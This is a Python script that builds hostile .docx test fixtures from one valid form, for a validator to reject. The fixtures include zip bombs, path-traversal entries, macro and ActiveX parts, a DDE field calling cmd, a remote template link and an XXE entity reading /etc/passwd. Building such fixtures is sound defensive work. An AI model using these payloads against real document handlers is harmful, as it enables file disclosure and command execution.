"""Makes forms that must be refused, in a folder, each from one good form: make-hostile.py FORM FOLDER"""
import io
import pathlib
import struct
import sys
import zipfile

good = pathlib.Path(sys.argv[1])
folder = pathlib.Path(sys.argv[2])
parts = {}
with zipfile.ZipFile(good) as archive:
    for item in archive.infolist():
        parts[item.filename] = archive.read(item)

TYPES = "[Content_Types].xml"
BODY = "word/document.xml"
RELATIONS = "word/_rels/document.xml.rels"
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def write(name, changed, extra=()):
    """Writes the good form with some parts changed (None: left out) and further entries."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, words in {**parts, **changed}.items():
            if words is not None:
                archive.writestr(part, words)
        for part, words in extra:
            archive.writestr(part, words)
    (folder / name).write_bytes(buffer.getvalue())
    return buffer.getvalue()


def relation(type, target, external=True):
    mode = b' TargetMode="External"' if external else b""
    new = b'<Relationship Id="rIdX" Type="' + OFFICE + type + b'" Target="' + target + b'"' + mode + b"/></Relationships>"
    return {RELATIONS: parts[RELATIONS].replace(b"</Relationships>", new)}


whole = write("baik.docx", {})
import warnings

warnings.simplefilter("ignore")

# Containers.
write("bom.docx", {}, [("word/media/besar.bin", bytes(90 << 20))])
write("bom-isi.docx", {BODY: b"<w:t>" + b" " * (40 << 20)})
write("banyak.docx", {}, [(f"word/media/{number}.bin", b"") for number in range(3000)])
(folder / "terpotong.docx").write_bytes(whole[: len(whole) // 2])
(folder / "bukan-zip.docx").write_bytes(b"Putusan {{nama terdakwa}}")
(folder / "kosong.docx").write_bytes(b"")
(folder / "zip-kosong.docx").write_bytes(b"PK\x05\x06" + bytes(18))
write("naik.docx", {}, [("../../../tmp/jahat.sh", b"echo")])
write("mutlak.docx", {}, [("/etc/jahat", b"x")])
write("mundur.docx", {}, [("word\\..\\jahat.xml", b"x")])
write("ganda.docx", {}, [("word/document.xml", parts[BODY])])
write("ganda-huruf.docx", {}, [("Word/Document.xml", parts[BODY])])

# The marks of a locked entry, and of one whose bytes are not those it was packed from.
locked = bytearray(whole)
for mark, place in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
    start = locked.find(mark)
    while start >= 0:
        locked[start + place] |= 1
        start = locked.find(mark, start + 4)
(folder / "terkunci.docx").write_bytes(bytes(locked))
flipped = bytearray(whole)
start = flipped.find(b"word/document.xml") + 400
flipped[start] ^= 0x55
(folder / "rusak.docx").write_bytes(bytes(flipped))
# An entry that says it is small and is not.
lying = bytearray(whole)
start = lying.find(b"PK\x01\x02")
while start >= 0:
    length = struct.unpack("<H", lying[start + 28 : start + 30])[0]
    if lying[start + 46 : start + 46 + length] == BODY.encode():
        lying[start + 24 : start + 28] = struct.pack("<I", 100)
    start = lying.find(b"PK\x01\x02", start + 4)
(folder / "bohong.docx").write_bytes(bytes(lying))

# Files of other kinds.
ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
(folder / "lama.doc").write_bytes(ole + bytes(1024))
name = "EncryptedPackage".encode("utf-16-le")
(folder / "sandi.docx").write_bytes(ole + name + bytes(1024 - len(name)))
write("tanpa-jenis.docx", {TYPES: None})
main = b"wordprocessingml.document.main+xml"
write("lembar.docx", {TYPES: parts[TYPES].replace(main, b"spreadsheetml.sheet.main+xml")})
write("templat.docx", {TYPES: parts[TYPES].replace(main, b"wordprocessingml.template.main+xml")})

# What runs.
macro = parts[TYPES].replace(b"application/vnd.openxmlformats-officedocument." + main, b"application/vnd.ms-word.document.macroEnabled.main+xml")
write("makro.docm", {TYPES: macro})
write("makro-tersembunyi.docx", {}, [("word/vbaProject.bin", b"VBA")])
write("kendali.docx", relation(b"control", b"activeX/activeX1.xml", external=False))
command = b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
write("perintah-dde.docx", {BODY: parts[BODY].replace(b"<w:body>", b"<w:body>" + command)})

# What reaches out.
settings = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="' + OFFICE + b'attachedTemplate" Target="http://contoh.invalid/jahat.dotm" TargetMode="External"/></Relationships>'
write("templat-luar.docx", {"word/_rels/settings.xml.rels": settings})
write("gambar-luar.docx", relation(b"image", b"http://contoh.invalid/gambar.png"))
write("dokumen-dalam.docx", relation(b"aFChunk", b"lain.html", external=False))
write("tautan.docx", relation(b"hyperlink", b"https://contoh.invalid/"))
signature = parts["_rels/.rels"].replace(
    b"</Relationships>",
    b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin" Target="_xmlsignatures/origin.sigs"/></Relationships>',
)
write("tanda-tangan.docx", {"_rels/.rels": signature})

# Broken XML.
write("xml-rusak.docx", {BODY: parts[BODY][:-20]})
write("doctype.docx", {BODY: parts[BODY].replace(b"<w:document ", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document ', 1)})
write("doctype-jenis.docx", {TYPES: parts[TYPES].replace(b"<Types ", b"<!DOCTYPE x><Types ", 1)})
deep = b"<w:p>" * 300 + b"</w:p>" * 300
write("dalam.docx", {BODY: parts[BODY].replace(b"<w:body>", b"<w:body>" + deep)})
write("utf16.docx", {BODY: parts[BODY].decode().replace("UTF-8", "UTF-16").encode("utf-16")})
fields = b"".join(b"<w:p><w:r><w:t>{{nama}}</w:t></w:r></w:p>" for _ in range(2500))
write("banyak-isian.docx", {BODY: parts[BODY].replace(b"<w:body>", b"<w:body>" + fields)})
